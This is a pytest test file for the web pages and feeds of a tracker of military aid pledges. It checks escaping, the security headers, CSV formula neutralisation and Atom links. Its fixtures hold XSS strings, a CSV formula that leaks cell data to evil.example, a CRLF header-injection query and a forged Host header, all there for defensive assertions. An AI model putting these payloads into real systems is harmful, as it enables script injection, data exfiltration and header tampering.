"""The web tracker (bot/web) on a real SQLite file and a real loopback HTTP server:
filters in the URL through the /pledges parser, bounded parameters (400 saying what is
accepted), escaping of feed text, the Content-Security-Policy, totals per currency,
CSV safe against formulas, JSON, Atom, English and French."""

from __future__ import annotations

import csv
import io
import json
import urllib.error
import urllib.request
from xml.etree import ElementTree

import pytest

from bot.config import load_entities, load_settings
from bot.core.models import Feed, Pledge
from bot.core.pledges.listing.filters import PledgeFilter, parse_pledge_filters
from bot.errors import ConfigError
from bot.web.headers import CSP
from bot.web.params import BadRequest, View, filter_words, link, parse_view
from bot.web.server import WebServer
from bot.web.texts import negotiate
from tests.support.web_tracker import add_story, get, serving, tracker_over

HOSTILE_TITLE = 'Aid <script>alert("t")</script> & more'
HOSTILE_OUTLET = '<img src=x onerror=alert(1)>Wire'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def filled(store, clock):
    feed_id = store.add_feed(Feed(url="https://wire.example/feed.xml", name="Wire"), clock.now())[0]
    add_story(store, clock, feed_id, 1, "Germany sends IRIS-T", "Wire", "https://wire.example/1",
              [Pledge("DE", "air_defence", "delivered", "IRIS-T", "IRIS-T", 2,
                      evidence="Germany delivered two IRIS-T.")], 3)
    add_story(store, clock, feed_id, 2, HOSTILE_TITLE, HOSTILE_OUTLET, "javascript:alert(1)",
              [Pledge("US", "funding", "pledged", "package", None, None, 400e6, "USD", evidence=FORMULA),
               Pledge("US", "tanks", "refused", "Abrams", "Abrams", 31, evidence="No Abrams for now.")], 10)
    add_story(store, clock, feed_id, 3, "Paris pledges money", "Journal", "https://journal.example/3",
              [Pledge("FR", "funding", "pledged", "aide", None, None, 2e9, "EUR", evidence="Deux milliards.")], 60)
    return store


@pytest.fixture
def web(filled, clock):
    """A real WebServer on a loopback port, in its own event loop thread."""
    yield from serving(tracker_over(filled, clock))


# -- parameters -----------------------------------------------------------------------------


def test_filter_words_read_back_to_the_same_filter():
    entities = load_entities()
    for words in ("germany air_defence 30d", '"leopard 2" delivered', "allemagne livré 6m", "ordered", "US refused 1y"):
        flt = parse_pledge_filters(words, entities)
        assert parse_pledge_filters(filter_words(flt), entities) == flt, words


def test_a_view_comes_from_bounded_parameters():
    entities = load_entities()
    view = parse_view({"q": ["germany air_defence 30d"], "sort": ["donor"], "page": ["3"], "lang": ["fr"]},
                      ("q", "sort", "page", "lang"), entities)
    assert view.flt.donor == "DE" and view.flt.category == "air_defence" and view.flt.days == 30
    assert (view.sort, view.page, view.lang) == ("donor", 3, "fr")
    for query, said in (({"q": ["zzz"]}, "'zzz' not understood"), ({"page": ["0"]}, "from 1 to"),
                        ({"page": ["1e3"]}, "from 1 to"), ({"sort": ["id; drop"]}, "one of newest"),
                        ({"lang": ["es"]}, "en, fr or de"), ({"x": ["1"]}, "unknown parameter 'x'"),
                        ({"q": ["a", "b"]}, "given 2 times"), ({"q": ["germany " * 40]}, "too long"),
                        ({"q": ["germany france"]}, "only one donor"), ({"q": ["summary"]}, "Totals page")):
        with pytest.raises(BadRequest, match=said):
            parse_view(query, ("q", "sort", "page", "lang"), entities)


def test_links_change_one_thing_and_go_back_to_page_one():
    view = View(flt=PledgeFilter(donor="DE", days=30, period="30d"), sort="donor", page=4, lang="fr")
    assert link("/pledges", view, category="air_defence") == "/pledges?q=DE+air_defence+30d&sort=donor&lang=fr"
    assert link("/pledges", view, days=None) == "/pledges?q=DE&sort=donor&lang=fr"
    assert link("/pledges", view, page=5) == "/pledges?q=DE+30d&sort=donor&page=5&lang=fr"
    assert link("/pledges", View()) == "/pledges"


def test_the_language_follows_accept_language():
    assert negotiate("fr-FR,fr;q=0.9,en;q=0.8") == "fr"
    assert negotiate("en-GB,en;q=0.9,fr;q=0.8") == "en"
    assert negotiate("de-DE,de;q=0.9,fr;q=0.5") == "de"
    assert negotiate("es-ES,es;q=0.9,fr;q=0.5") == "fr"
    assert negotiate("de") == "de" and negotiate("es") == "en"
    assert negotiate(None) == "en"
    assert negotiate("fr;q=0") == "en"


# -- the server -------------------------------------------------------------------------------


def test_every_page_carries_the_strict_security_policy(web):
    for path in ("/pledges", "/totals", "/stories", "/pledges.csv", "/pledges?zzz=1", "/nowhere"):
        status, headers, _ = get(web + path)
        assert headers["Content-Security-Policy"] == CSP, path
        assert "script-src" not in CSP and "default-src 'none'" in CSP
        assert headers["X-Content-Type-Options"] == "nosniff"


def test_feed_text_is_escaped_and_only_http_links_are_links(web):
    _, _, page = get(web + "/pledges")
    assert "<script>" not in page and "<img" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;Wire" in page
    assert "javascript:" not in page
    _, _, stories = get(web + "/stories")
    assert "Aid &lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt; &amp; more" in stories
    assert "<script>" not in stories and "javascript:" not in stories
    assert 'href="https://journal.example/3"' in stories


def test_the_root_redirects_to_the_pledges_with_the_security_headers_and_no_injected_header(web, recwarn):
    import http.client

    host, port = web.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    connection.request("GET", "/?q=germany&x=%0d%0aSet-Cookie:%20a=1")
    response = connection.getresponse()
    connection.close()
    assert response.status == 302
    assert response.getheader("Location").startswith("/pledges?q=germany&x=")
    assert response.getheader("Set-Cookie") is None
    assert response.getheader("Content-Security-Policy") == CSP
    # Returning (not raising) an HTTPException is deprecated in aiohttp and goes in 4.0.
    assert not [w for w in recwarn if "HTTPException" in str(w.message)]


def test_filters_in_the_url_pick_the_rows(web):
    _, _, page = get(web + "/pledges?q=germany+air_defence+30d")
    assert "1 pledge<" in page and "Germany delivered two IRIS-T." in page and "Deux milliards" not in page
    _, _, page = get(web + "/pledges?q=france")
    assert "1 pledge<" in page and "Deux milliards." in page
    _, _, page = get(web + "/pledges?q=refused")
    # Counted as the totals count: a refusal is no pledge (it said "1 pledge").
    assert "1 discussed or refused, not pledged<" in page and "No Abrams for now." in page
    _, _, page = get(web + "/pledges?q=30d")
    assert "2 pledges, and 1 discussed or refused" in page  # as /totals counts the same three records


def test_a_bad_parameter_answers_400_saying_what_is_accepted(web):
    status, headers, page = get(web + "/pledges?q=atlantis")
    assert status == 400 and "&#x27;atlantis&#x27; not understood" in page and "a period (30d" in page
    status, _, text = get(web + "/pledges.csv?page=2")
    assert status == 400 and "unknown parameter 'page'" in text and "sort:" in text
    status, _, _ = get(web + "/pledges?q=" + "x" * 1200)
    assert status == 400
    request = urllib.request.Request(web + "/pledges", data=b"x=1", method="POST")
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 405


def test_sorting_and_paging(web, monkeypatch):
    monkeypatch.setattr("bot.web.data.PAGE_SIZE", 2)
    monkeypatch.setattr("bot.web.server.PAGE_SIZE", 2)
    _, _, first = get(web + "/pledges?sort=oldest")
    assert first.index("Deux milliards.") < first.index("HYPERLINK") and "No Abrams" not in first
    assert "page 1 of 2" in first and 'href="/pledges?sort=oldest&amp;page=2"' in first
    _, _, second = get(web + "/pledges?sort=oldest&page=2")
    assert second.index("No Abrams") < second.index("Germany delivered two IRIS-T.") and "Deux milliards." not in second
    # By the donors' names in the page's language (stop 60), no longer by their codes (DE before FR).
    _, _, by_donor = get(web + "/pledges?sort=donor")
    assert by_donor.index("Deux milliards.") < by_donor.index("Germany delivered")  # France, Germany
    _, _, by_donor = get(web + "/pledges?sort=donor&lang=de")
    assert by_donor.index("Germany delivered") < by_donor.index("Deux milliards.")  # Deutschland, Frankreich


def test_totals_sum_money_per_currency_and_never_into_counts(web):
    _, _, page = get(web + "/totals")
    assert "<svg" in page and 'fill="#F0E442"' in page  # the funding colour, as in the legend
    assert ">USD</th><td class=\"num\">400,000,000</td><td class=\"num\">1</td>" in page
    assert ">EUR</th><td class=\"num\">2,000,000,000</td><td class=\"num\">1</td>" in page
    # United States: one pledge (funding); its refusal is counted by status only.
    assert "United States</a></th><td class=\"num\">1</td>" in page
    # (The link's hidden words, since stop 44, tell it from the filter choice of the same name.)
    assert 'refused<span class="vh"> (list of pledges)</span></a></th><td class="num">1</td>' in page
    _, _, month = get(web + "/totals?q=30d")
    assert "EUR" not in month and "USD" in month


def test_french_from_the_browser_or_the_switch(web):
    _, headers, page = get(web + "/pledges", **{"Accept-Language": "fr-CA,fr;q=0.9"})
    assert headers["Content-Language"] == "fr" and "<h1>Promesses</h1>" in page and "Allemagne" in page
    assert 'href="/pledges?lang=en"' in page  # the switch to English
    _, _, page = get(web + "/pledges?lang=en", **{"Accept-Language": "fr"})
    assert "<h1>Pledges</h1>" in page and 'href="/pledges?q=DE&amp;lang=en"' in page


def test_csv_is_safe_against_formulas_and_json_keeps_the_text(web):
    status, headers, text = get(web + "/pledges.csv?q=US")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["Donor Code"] for r in rows} == {"US"} and {r["Countries"] for r in rows} == {"United States"} and len(rows) == 2
    explanations = {r["Explanation"] for r in rows}
    assert "'" + FORMULA in explanations
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    _, _, text = get(web + "/pledges.json?q=US")
    assert FORMULA in {r["Explanation"] for r in json.loads(text)}


def test_the_atom_feed_lists_new_pledges(web):
    status, headers, text = get(web + "/pledges.atom")
    assert status == 200 and headers["Content-Type"].startswith("application/atom+xml")
    ns = {"a": "http://www.w3.org/2005/Atom"}
    feed = ElementTree.fromstring(text)
    titles = [e.findtext("a:title", namespaces=ns) for e in feed.findall("a:entry", ns)]
    # Newest first by time (stop 43; by pledge number before): Germany's, three days old, first.
    assert len(titles) == 4 and titles[0] == "Germany — IRIS-T air defence ×2 — delivered"
    ids = [e.findtext("a:id", namespaces=ns) for e in feed.findall("a:entry", ns)]
    assert len(set(ids)) == 4
    related = [link.get("href") for link in feed.iter("{http://www.w3.org/2005/Atom}link") if link.get("rel") == "related"]
    assert "javascript:alert(1)" not in related and "https://wire.example/1" in related


def test_the_atom_feed_stays_xml_when_feed_text_carries_characters_xml_forbids(store, clock):
    # U+FFFE and U+FFFF are characters Python and SQLite keep but XML 1.0 has none of: a
    # feed item carrying one (feedparser's loose parser keeps them) put it in the pledge's
    # evidence, and every reader refused the whole Atom feed as malformed.
    feed_id = store.add_feed(Feed(url="https://wire.example/feed.xml", name="Wire \uffff"), clock.now())[0]
    add_story(store, clock, feed_id, 1, "Norway \ufffe sends NASAMS", "Wire \uffff", "https://wire.example/1",
              [Pledge("NO", "air_defence", "pledged", "NASAMS \uffff", "NASAMS", 2,
                      evidence="Norway will send \uffff two \ufffe NASAMS.")], 1)
    for url in serving(tracker_over(store, clock)):
        status, _, text = get(url + "/pledges.atom")
    assert status == 200
    ns = {"a": "http://www.w3.org/2005/Atom"}
    (entry,) = ElementTree.fromstring(text).findall("a:entry", ns)
    assert "Norway will send  two  NASAMS." in ElementTree.tostring(entry, encoding="unicode")


def _own_links(text: str) -> tuple[list[str], list[str]]:
    """The Atom feed's ids and its links to the tracker itself (not the articles')."""
    ns = {"a": "http://www.w3.org/2005/Atom"}
    feed = ElementTree.fromstring(text)
    ids = [feed.findtext("a:id", namespaces=ns)]
    ids += [entry.findtext("a:id", namespaces=ns) for entry in feed.findall("a:entry", ns)]
    links = [link.get("href") for link in feed.iter(f"{{{ns['a']}}}link") if link.get("rel") != "related"]
    return ids, links


def test_a_forged_host_header_never_reaches_the_atom_feed(web):
    # The links were built from the Host header, which the client writes: any host it named
    # was in every link (and in every reader's copy wherever a cache stood in between).
    _, _, honest = get(web + "/pledges.atom?q=germany")
    status, _, forged = get(web + "/pledges.atom?q=germany", Host="evil.example")
    assert status == 200 and "evil.example" not in forged and forged == honest
    # Without [web] public_url: links relative (a reader resolves them against the URL it
    # fetched), ids absolute and the same whatever name the tracker was reached by.
    ids, links = _own_links(forged)
    assert links[0] == "/pledges.atom?q=germany" and links[1:] == ["/pledges/1"]  # the entry's own page
    # The feed's id names its filter in the words it reads back as (stop 40: every filtered
    # feed had the unfiltered one's id).
    assert ids == ["urn:pledgewatch:pledges.atom?q=DE", "urn:pledgewatch:pledges#pledge-1"]


def test_the_atom_feed_links_to_the_configured_public_url(filled, clock, tmp_path):
    settings = tmp_path / "settings.toml"
    settings.write_text('[web]\npublic_url = "https://pledges.example.org/tracker/"\n', encoding="utf-8")
    public_url = load_settings(settings, environ={}).web.public_url
    assert public_url == "https://pledges.example.org/tracker"
    for web_url in serving(WebServer(filled.path, load_entities(), clock, "127.0.0.1", 0, public_url=public_url)):
        _, _, text = get(web_url + "/pledges.atom?q=germany", Host="evil.example")
    ids, links = _own_links(text)
    assert "evil.example" not in text
    assert links == ["https://pledges.example.org/tracker/pledges.atom?q=germany",
                     "https://pledges.example.org/tracker/pledges/1"]
    assert ids == ["https://pledges.example.org/tracker/pledges.atom?q=DE",
                   "https://pledges.example.org/tracker/pledges#pledge-1"]
    for bad, said in (("ftp://x.example", "not an http"), ("https://x.example/?a=1", "query or fragment")):
        settings.write_text(f'[web]\npublic_url = "{bad}"\n', encoding="utf-8")
        with pytest.raises(ConfigError, match=said):
            load_settings(settings, environ={})


@pytest.mark.timeout(180)
def test_run_serves_the_pages_when_web_listen_is_set(tmp_path, feed_server):
    """`[web] listen` in the settings: the running job polls and serves the tracker."""
    import signal
    import socket

    from tests.support.run_process import start, wait_for, write_settings
    from tests.support.seed_feed import FEB_13, seed_item
    from tests.support.servers import rss

    feed_server.set_feed("/afp.xml", rss([seed_item(0, FEB_13)], lang="fr"))
    feed_server.set_feed("/dw.xml", rss([seed_item(1, FEB_13)], lang="fr"))
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    settings = write_settings(tmp_path, feed_server)
    settings.write_text(settings.read_text(encoding="utf-8") + f'[web]\nlisten = "127.0.0.1:{port}"\n', encoding="utf-8")
    proc = start(settings, tmp_path / "stdout.log")
    pages: list[str] = []

    def pledges_shown() -> bool:
        try:
            status, _, page = get(f"http://127.0.0.1:{port}/pledges")
        except OSError:
            return False
        pages.append(page)
        return status == 200 and 'class="pledges"' in page

    try:
        wait_for(pledges_shown, proc, "the polled pledges on the web page")
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=20) == 0
    assert "<td class=\"donor\">" in pages[-1]  # a pledge row from the polled seed articles


def test_every_link_on_every_page_answers(web):
    """Each filter, sort, page and language link reads back through the parser: a link the
    pages write never answers 400 (a category chip of 'funding', a system, a donor code)."""
    import html
    import re

    seen: set[str] = set()
    for start in ("/pledges", "/totals", "/stories", "/pledges?lang=fr", "/pledges?sort=value&q=US"):
        _, _, page = get(web + start)
        for href in re.findall(r'href="(/[^"]*)"', page):
            href = html.unescape(href)
            if href in seen:
                continue
            seen.add(href)
            status, _, _ = get(web + href)
            assert status == 200, href
    assert len(seen) > 40 and any("q=funding" in h for h in seen) and any("q=IRIS-T" in h for h in seen)


def test_cached_totals_follow_new_pledges(filled, clock):
    """Totals are kept between requests until a pledge is added (or the minute turns)."""
    from bot.web.data import WebData

    cache: dict = {}
    data = WebData(filled, cache)
    view = View()
    before = data.totals(view, clock.now())
    assert data.totals(view, clock.now()) is before and len(cache) == 1
    feed_id = filled.list_feeds()[0].id
    add_story(filled, clock, feed_id, 9, "Oslo sends NASAMS", "Wire", "https://wire.example/9",
              [Pledge("NO", "air_defence", "pledged", "NASAMS", "NASAMS", 2)], 1)
    after = data.totals(view, clock.now())
    assert after.donors["NO"] == 1 and before.donors["NO"] == 0
    assert WebData(filled).totals(view, clock.now()).donors == after.donors  # uncached: the same answer


def test_status_words_filter_pledges_in_chat_too(filled, clock):
    """The status filter word the web shares with /pledges: English or French, in chat."""
    from bot.core.chat.commands import CommandTable
    from bot.core.chat.services import ChatContext
    from bot.rule_admin import RuleAdmin
    from bot.store_chat_services import StoreChatServices

    entities = load_entities()
    assert parse_pledge_filters("livré", entities).status == "delivered"
    assert parse_pledge_filters("ordered germany", entities).status == "production"
    assert parse_pledge_filters("production", entities).category == "production"  # the category word
    table = CommandTable(StoreChatServices(filled, RuleAdmin(filled, clock, entities)), clock, entities)
    ctx = ChatContext(platform="console", chat_id="1", user_id="1", is_admin=False,
                      can_manage_chat=True)
    reply = table.handle(ctx, "pledges", "refused").text
    assert "Abrams" in reply and "IRIS-T" not in reply


def test_web_command_refuses_a_bad_listen_address(capsys, env):
    from bot.cli import main

    assert main(["web", "--listen", "8000"]) == 2
    assert "--listen: '8000' is not host:port" in capsys.readouterr().err


def test_every_category_has_one_colour_everywhere():
    from bot.core.pledges.listing.filters import FILTER_CATEGORIES
    from bot.core.pledges.listing.words import CATEGORY_COLOURS, CATEGORY_WORDS
    from bot.web.chart import category_css

    assert set(CATEGORY_COLOURS) == set(CATEGORY_WORDS) >= set(FILTER_CATEGORIES)
    assert len(set(CATEGORY_COLOURS.values())) == len(CATEGORY_COLOURS)  # no two alike
    assert all(f".cat-{name}{{background:{colour}}}" in category_css() for name, colour in CATEGORY_COLOURS.items())
